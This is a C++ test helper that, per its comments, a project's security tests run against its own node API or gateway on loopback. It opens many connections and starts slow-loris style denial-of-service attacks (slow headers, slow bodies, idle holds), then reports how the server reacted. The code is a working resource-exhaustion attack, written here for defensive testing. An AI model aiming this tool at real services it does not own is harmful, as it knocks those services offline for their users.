// dsec_http_attacker: what a hostile user on a node runs against the node API or the gateway, without the
// token. The security tests start it as another user (uid 65534) and judge the server by what it reports.
//
//   dsec_http_attacker MODE --port N [--host 127.0.0.1] [--connections N] [--interval-ms N] [--for SECONDS]
//                      [--sources FIRST-LAST] [--method POST] [--path /healthz] [--length BYTES]
//   MODE slow-head: every connection trickles a request head one byte per interval and never finishes it.
//   MODE slow-body: every connection sends a whole head (method path, Content-Length length), then trickles
//                   the body one byte per interval.
//   MODE hold:      every connection sends nothing at all.
//   MODE keepalive: every connection sends one whole request (GET path, no token), then nothing more.
// --sources 127.0.0.2-127.0.0.41 binds the connections to those addresses in turn (spreading over loopback).
// All connections run in one poll loop until the server has closed them all or --for has passed. Output (one
// JSON object on stdout): {"connections": [{"connected", "status", "closed_after", "sent", "answer"}...]},
// where status is the HTTP status the server answered (0: none) and closed_after the seconds from connect to
// the server's close (null: still open at the end).
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

namespace {

double now() {
  struct timespec ts {};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) / 1e9;
}

struct Options {
  std::string mode;
  std::string host = "127.0.0.1";
  int port = 0;
  int connections = 10;
  int interval_ms = 200;
  double for_seconds = 10;
  std::string path = "/healthz";
  std::string method = "POST";
  long long length = 100000;
  std::vector<std::string> sources;
};

struct Conn {
  int fd = -1;
  bool connected = false;
  bool closed = false;
  double opened_at = 0;
  double closed_at = 0;
  double next_send = 0;
  size_t sent = 0;
  std::string answer;
};

[[noreturn]] void usage(const char* why) {
  std::fprintf(stderr, "dsec_http_attacker: %s\n", why);
  std::exit(2);
}

// "127.0.0.2-127.0.0.41" -> each address in turn (the last octet counts up).
std::vector<std::string> expandSources(const std::string& range) {
  auto dash = range.find('-');
  std::string first = range.substr(0, dash), last = dash == std::string::npos ? first : range.substr(dash + 1);
  struct in_addr a {
  }, b{};
  if (inet_pton(AF_INET, first.c_str(), &a) != 1 || inet_pton(AF_INET, last.c_str(), &b) != 1) {
    usage("--sources wants FIRST-LAST IPv4 addresses");
  }
  std::vector<std::string> out;
  for (uint32_t v = ntohl(a.s_addr); v <= ntohl(b.s_addr); ++v) {
    struct in_addr x {};
    x.s_addr = htonl(v);
    char text[INET_ADDRSTRLEN];
    inet_ntop(AF_INET, &x, text, sizeof(text));
    out.emplace_back(text);
  }
  return out;
}

Options parse(int argc, char** argv) {
  if (argc < 2) usage("a mode is needed: slow-head, slow-body or hold");
  Options o;
  o.mode = argv[1];
  for (int i = 2; i < argc; ++i) {
    std::string k = argv[i];
    if (i + 1 >= argc) usage("an option needs a value");
    std::string v = argv[++i];
    if (k == "--host") {
      o.host = v;
    } else if (k == "--port") {
      o.port = std::atoi(v.c_str());
    } else if (k == "--connections") {
      o.connections = std::atoi(v.c_str());
    } else if (k == "--interval-ms") {
      o.interval_ms = std::atoi(v.c_str());
    } else if (k == "--for") {
      o.for_seconds = std::atof(v.c_str());
    } else if (k == "--method") {
      o.method = v;
    } else if (k == "--path") {
      o.path = v;
    } else if (k == "--length") {
      o.length = std::atoll(v.c_str());
    } else if (k == "--sources") {
      o.sources = expandSources(v);
    } else {
      usage("unknown option");
    }
  }
  if (o.mode != "slow-head" && o.mode != "slow-body" && o.mode != "hold" && o.mode != "keepalive") {
    usage("unknown mode");
  }
  if (o.port <= 0) usage("--port is needed");
  return o;
}

int openConnection(const Options& o, int index) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  if (fd < 0) return -1;
  int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  if (!o.sources.empty()) {
    struct sockaddr_in src {};
    src.sin_family = AF_INET;
    inet_pton(AF_INET, o.sources[static_cast<size_t>(index) % o.sources.size()].c_str(), &src.sin_addr);
    if (bind(fd, reinterpret_cast<struct sockaddr*>(&src), sizeof(src)) != 0) {
      close(fd);
      return -1;
    }
  }
  struct sockaddr_in dst {};
  dst.sin_family = AF_INET;
  dst.sin_port = htons(static_cast<uint16_t>(o.port));
  inet_pton(AF_INET, o.host.c_str(), &dst.sin_addr);
  if (connect(fd, reinterpret_cast<struct sockaddr*>(&dst), sizeof(dst)) != 0 && errno != EINPROGRESS) {
    close(fd);
    return -1;
  }
  return fd;
}

int statusOf(const std::string& answer) {
  if (answer.rfind("HTTP/1.", 0) != 0 || answer.size() < 12) return 0;
  return std::atoi(answer.substr(9, 3).c_str());
}

int attack(int argc, char** argv) {
  Options o = parse(argc, argv);
  // The bytes each connection trickles: a head that never ends, or a body after a whole head.
  std::string head, trickle;
  if (o.mode == "slow-head") {
    trickle = "GET " + o.path + " HTTP/1.1\r\nHost: node\r\nX-Slow: ";
    trickle += std::string(1 << 16, 'a');
  } else if (o.mode == "keepalive") {
    head = "GET " + o.path + " HTTP/1.1\r\nHost: node\r\n\r\n";
  } else if (o.mode == "slow-body") {
    head = o.method + " " + o.path +
           " HTTP/1.1\r\nHost: node\r\nContent-Type: application/json\r\nContent-Length: " + std::to_string(o.length) +
           "\r\n\r\n";
    trickle = std::string(static_cast<size_t>(o.length), ' ');
  }
  std::vector<Conn> conns(static_cast<size_t>(o.connections));
  const double start = now();
  for (int i = 0; i < o.connections; ++i) {
    Conn& c = conns[static_cast<size_t>(i)];
    c.fd = openConnection(o, i);
    c.opened_at = now();
    c.next_send = c.opened_at;
    if (c.fd < 0) {
      c.closed = true;
      c.closed_at = c.opened_at;
    }
  }
  char buf[4096];
  for (;;) {
    double t = now();
    if (t - start >= o.for_seconds) break;
    std::vector<struct pollfd> fds;
    std::vector<size_t> which;
    int open = 0;
    for (size_t i = 0; i < conns.size(); ++i) {
      Conn& c = conns[i];
      if (c.closed) continue;
      ++open;
      short events = POLLIN;
      if (!c.connected) events |= POLLOUT;
      fds.push_back({c.fd, events, 0});
      which.push_back(i);
    }
    if (open == 0) break;
    int wait_ms = std::max(1, std::min(o.interval_ms, static_cast<int>((o.for_seconds - (t - start)) * 1000) + 1));
    int n = poll(fds.data(), fds.size(), wait_ms);
    if (n < 0 && errno != EINTR) break;
    t = now();
    for (size_t k = 0; k < fds.size(); ++k) {
      Conn& c = conns[which[k]];
      if (!c.connected && (fds[k].revents & (POLLOUT | POLLERR | POLLHUP))) {
        int err = 0;
        socklen_t len = sizeof(err);
        getsockopt(c.fd, SOL_SOCKET, SO_ERROR, &err, &len);
        if (err != 0) {
          c.closed = true;
          c.closed_at = t;
          close(c.fd);
          continue;
        }
        c.connected = true;
        if (!head.empty()) {
          ssize_t w = send(c.fd, head.data(), head.size(), MSG_NOSIGNAL);
          if (w > 0) c.sent += static_cast<size_t>(w);
        }
      }
      if (fds[k].revents & (POLLIN | POLLHUP | POLLERR)) {
        for (;;) {
          ssize_t r = recv(c.fd, buf, sizeof(buf), MSG_DONTWAIT);
          if (r > 0) {
            if (c.answer.size() < 2048) c.answer.append(buf, static_cast<size_t>(r));
            continue;
          }
          if (r == 0 || (errno != EAGAIN && errno != EINTR)) {
            c.closed = true;
            c.closed_at = t;
            close(c.fd);
          }
          break;
        }
      }
    }
    // One more byte on every open connection whose turn it is.
    for (auto& c : conns) {
      if (c.closed || !c.connected || trickle.empty() || t < c.next_send) continue;
      size_t off = c.sent - head.size();
      if (off >= trickle.size()) continue;
      ssize_t w = send(c.fd, trickle.data() + off, 1, MSG_NOSIGNAL | MSG_DONTWAIT);
      if (w == 1) {
        c.sent += 1;
      } else if (w < 0 && errno != EAGAIN && errno != EINTR) {
        // The server is gone; what it answered (if anything) is read on the next round.
        c.next_send = t + 3600;
        continue;
      }
      c.next_send = t + o.interval_ms / 1000.0;
    }
  }
  nlohmann::json out = nlohmann::json::array();
  for (auto& c : conns) {
    nlohmann::json j = {{"connected", c.connected},
                        {"status", statusOf(c.answer)},
                        {"sent", c.sent},
                        {"answer", c.answer.substr(0, 600)}};
    j["closed_after"] = c.closed ? nlohmann::json(c.closed_at - c.opened_at) : nlohmann::json(nullptr);
    out.push_back(j);
    if (!c.closed) close(c.fd);
  }
  std::string text = nlohmann::json{{"connections", out}, {"ran", now() - start}}.dump(
      -1, ' ', false, nlohmann::json::error_handler_t::replace);
  std::fputs(text.c_str(), stdout);
  std::fputc('\n', stdout);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  try {
    return attack(argc, argv);
  } catch (const std::exception& e) {
    std::fprintf(stderr, "dsec_http_attacker: %s\n", e.what());
    return 1;
  }
}
